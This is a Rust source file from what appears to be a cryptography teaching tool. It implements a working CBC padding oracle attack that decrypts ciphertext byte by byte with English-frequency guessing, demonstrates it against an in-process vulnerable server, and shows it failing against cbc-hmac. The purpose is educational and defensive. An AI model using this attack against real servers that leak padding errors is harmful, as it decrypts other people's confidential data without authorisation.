//! The padding oracle: decrypting CBC without the key, one byte at a time.
//!
//! **Setup.** A server decrypts cbc messages and tells the sender when the
//! padding is wrong. It might say it in an error message, a different status,
//! or a faster failure. The attacker has one captured body `IV ‖ C_0 ‖ … ‖ C_n`
//! and can send the server whatever bytes they like. That is the *oracle*:
//! a yes/no answer to "is the padding valid?". Here it is a closure,
//! [`attack`]`(body, oracle, …)`; live, it is `serve --leak-padding-errors`.
//!
//! **Attack** (Vaudenay, 2002). To decrypt block `C_i`, send `X ‖ C_i` with a
//! forged previous block `X`. The server computes `P' = D_K(C_i) ⊕ X`. Call
//! `I = D_K(C_i)` the intermediate value: the attacker never sees it, but
//! `P_i = I ⊕ C_{i−1}`. Work from the last byte:
//!
//! ```text
//! byte 15: try X[15] until the padding is valid → P'[15] = 0x01 → I[15] = X[15] ⊕ 0x01
//! byte 14: set X[15] = I[15] ⊕ 0x02, try X[14] until valid → I[14] = X[14] ⊕ 0x02
//! …        (for byte k, pad value p = 16 − k; bytes after k are set to give p)
//! then     P_i[k] = I[k] ⊕ C_{i−1}[k]
//! ```
//!
//! Each byte needs at most 256 guesses. This implementation guesses in order
//! of likelihood: each X[k] stands for a guess of the *plaintext* byte,
//! `X[k] = guess ⊕ C_{i−1}[k] ⊕ p`. Guessing space, then e, t, a, o, … first
//! recovers English in a few dozen queries a byte (measured:
//! docs/PERFORMANCE.md). A lucky first answer at byte 15 can also come from a
//! `02 02` ending. That is ruled out by changing X[14] and asking again.
//!
//! **Verify.** The recovered plaintext equals the message, byte for byte.
//! Against cbc-hmac the server checks the MAC first, so every forged query
//! fails the same way. The attack gets no signal and stops (see
//! [`OracleError::NoSignal`]).

use crate::suite::pkcs7::BLOCK;

/// Why the attack stopped.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum OracleError {
    /// The body is not IV plus at least one whole block.
    #[error("a cbc body is an IV and whole 16-byte blocks; this one is {0} bytes")]
    Shape(usize),
    /// No guess for a byte made the oracle say yes: there is no padding signal.
    #[error(
        "no padding signal: all 256 guesses for block {block}, byte {byte} were refused ({queries} queries)"
    )]
    NoSignal {
        /// The ciphertext block being attacked.
        block: usize,
        /// The byte within it.
        byte: usize,
        /// Queries spent.
        queries: u64,
    },
}

/// Progress after each recovered byte.
#[derive(Debug, Clone, Copy)]
pub struct Progress<'a> {
    /// Plaintext recovered so far (in order, padding included).
    pub recovered: &'a [u8],
    /// Bytes to recover in all.
    pub total: usize,
    /// Oracle queries so far.
    pub queries: u64,
}

/// The result of a successful attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Recovery {
    /// The whole plaintext, PKCS#7 padding included.
    pub padded: Vec<u8>,
    /// Oracle queries used.
    pub queries: u64,
}

impl Recovery {
    /// The message without its padding (or the padded bytes if the padding is odd).
    pub fn message(&self) -> &[u8] {
        let len = crate::suite::pkcs7::unpad(&self.padded).unwrap_or(self.padded.len());
        &self.padded[..len]
    }

    /// Queries per recovered byte.
    pub fn per_byte(&self) -> f64 {
        self.queries as f64 / self.padded.len().max(1) as f64
    }
}

/// Plaintext bytes in order of likelihood for English text: space and
/// lower-case letters by frequency, capitals, digits, punctuation, then
/// everything else.
pub fn english_order() -> Vec<u8> {
    let mut order: Vec<u8> = b" etaoinsrhldcumfpgwybvkxjqz".to_vec();
    order.extend(b"ETAOINSRHLDCUMFPGWYBVKXJQZ");
    order.extend(b".,'\"-;:!?()0123456789\n/&@#%*+=_");
    for b in 0..=255u8 {
        if !order.contains(&b) {
            order.push(b);
        }
    }
    order
}

/// Recovers the plaintext of a cbc `body` (IV ‖ ciphertext) with a padding
/// oracle: `oracle(forged_body)` answers whether the padding was valid.
/// `progress` is called after every recovered byte.
pub fn attack(
    body: &[u8],
    mut oracle: impl FnMut(&[u8]) -> bool,
    mut progress: impl FnMut(Progress<'_>),
) -> Result<Recovery, OracleError> {
    if body.len() < 2 * BLOCK || !body.len().is_multiple_of(BLOCK) {
        return Err(OracleError::Shape(body.len()));
    }
    let blocks = body.len() / BLOCK - 1;
    let english = english_order();
    let mut padded = Vec::with_capacity(body.len() - BLOCK);
    let mut queries = 0u64;
    let mut query = [0u8; 2 * BLOCK];
    for i in 0..blocks {
        let prev: &[u8] = &body[i * BLOCK..(i + 1) * BLOCK];
        query[BLOCK..].copy_from_slice(&body[(i + 1) * BLOCK..(i + 2) * BLOCK]);
        let last = i + 1 == blocks;
        let mut inter = [0u8; BLOCK];
        let mut plain = [0u8; BLOCK];
        for k in (0..BLOCK).rev() {
            let p = (BLOCK - k) as u8;
            let mut x = [0u8; BLOCK];
            for j in k + 1..BLOCK {
                x[j] = inter[j] ^ p;
            }
            // In the last block the padding comes first: at byte 15 any pad
            // value 1..=16; inside a pad run already seen, that same value.
            let mut order: Vec<u8> = Vec::with_capacity(256);
            if last {
                let n = plain[BLOCK - 1];
                if k == BLOCK - 1 {
                    order.extend(1..=16u8);
                } else if (1..=16).contains(&n) && k >= BLOCK - usize::from(n) {
                    order.push(n);
                }
            }
            let first = order.clone();
            order.extend(english.iter().filter(|b| !first.contains(b)));
            let mut found = None;
            for guess in order {
                x[k] = guess ^ prev[k] ^ p;
                query[..BLOCK].copy_from_slice(&x);
                queries += 1;
                if !oracle(&query) {
                    continue;
                }
                if k == BLOCK - 1 {
                    // Rule out a valid `02 02` (or longer) ending by changing byte 14.
                    query[BLOCK - 2] ^= 0xff;
                    queries += 1;
                    let still_valid = oracle(&query);
                    query[BLOCK - 2] ^= 0xff;
                    if !still_valid {
                        continue;
                    }
                }
                found = Some(guess);
                break;
            }
            let Some(guess) = found else {
                return Err(OracleError::NoSignal { block: i, byte: k, queries });
            };
            inter[k] = x[k] ^ p;
            plain[k] = guess;
            let mut shown = padded.clone();
            shown.extend(&plain[k..]);
            progress(Progress { recovered: &shown, total: blocks * BLOCK, queries });
        }
        padded.extend_from_slice(&plain);
    }
    Ok(Recovery { padded, queries })
}

/// Narrates the demo: a vulnerable cbc server (in-process), the attack with
/// live progress (on `progress_out`, when it is a terminal), the result and
/// its cost; then the same attack against cbc-hmac.
pub fn narrate(
    w: &mut dyn std::io::Write,
    r: &crate::render::Renderer,
    keys: &crate::keys::KeyMaterial,
    secret: &[u8],
    rng: &mut (impl rand::CryptoRng + ?Sized),
    live: bool,
) -> std::io::Result<()> {
    use std::io::Write as _;

    use crate::render::Dump;
    use crate::suite::{Cipher, Suite, SuiteError, layout};

    super::title(w, r, "Demo: the padding oracle — decrypting CBC without the key")?;
    let server = Cipher::new(Suite::Cbc, &keys.enc, keys.mac()).expect("demo keys are valid");
    let body = server.seal(&[], secret, rng);
    super::step(
        w,
        r,
        "1. A captured cbc body. The server that reads such messages says when the padding is bad (INSECURE).",
    )?;
    r.render(w, &Dump::new("captured", &body).spans(layout::body_spans(Suite::Cbc, 0, body.len())))?;
    super::step(w, r, "2. The attack: forge the block before each target block, one byte at a time.")?;
    writeln!(
        w,
        "   The oracle answers only yes/no: \"was the padding valid?\". Guesses go in English order."
    )?;
    let oracle = |forged: &[u8]| !matches!(server.open(&[], forged), Err(SuiteError::BadPadding));
    let mut err = std::io::stderr().lock();
    let result = attack(&body, oracle, |p| {
        if live {
            let done = p.recovered.len();
            let bar: String = (0..30).map(|i| if i * p.total < 30 * done { '#' } else { '.' }).collect();
            let text: String = p
                .recovered
                .iter()
                .map(|&b| if (0x20..0x7f).contains(&b) { b as char } else { '.' })
                .collect();
            let _ = write!(err, "\r   [{bar}] {done}/{} bytes, {} queries: {text}\x1b[K", p.total, p.queries);
            let _ = err.flush();
        }
    });
    if live {
        let _ = writeln!(err);
    }
    match result {
        Ok(rec) => {
            r.render(
                w,
                &Dump::new("recovered, without the key", &rec.padded)
                    .spans(layout::plaintext_spans(rec.message().len(), rec.padded.len())),
            )?;
            super::verdict(
                w,
                r,
                rec.message() == secret,
                &format!(
                    "cbc: recovered {} bytes{} with {} oracle queries, {:.1} per byte (a blind search averages 128).",
                    rec.padded.len(),
                    if rec.message() == secret { ", exactly the secret," } else { "" },
                    rec.queries,
                    rec.per_byte()
                ),
            )?;
        }
        Err(e) => super::verdict(w, r, false, &format!("cbc: {e}"))?,
    }
    super::step(w, r, "3. The same attack against cbc-hmac: the MAC is checked before the padding.")?;
    let server = Cipher::new(Suite::CbcHmac, &keys.enc, keys.mac()).expect("demo keys are valid");
    let body = server.seal(&[], secret, rng);
    let (cbc_part, tag) = body.split_at(body.len() - 32);
    let oracle = |forged: &[u8]| server.open(&[], &[forged, tag].concat()).is_ok();
    match attack(cbc_part, oracle, |_| {}) {
        Ok(_) => super::verdict(w, r, true, "cbc-hmac: recovered (this must never happen)")?,
        Err(e) => {
            super::verdict(w, r, false, &format!("cbc-hmac: {e}. Every forgery is \"message rejected\"."))?
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn english_order_is_a_permutation_of_all_bytes() {
        let mut o = english_order();
        assert_eq!(o[0], b' ');
        o.sort_unstable();
        assert_eq!(o, (0..=255u8).collect::<Vec<_>>());
    }

    #[test]
    fn malformed_body_is_refused() {
        assert_eq!(attack(&[0u8; 20], |_| true, |_| {}), Err(OracleError::Shape(20)));
        assert_eq!(attack(&[0u8; 16], |_| true, |_| {}), Err(OracleError::Shape(16)));
    }
}
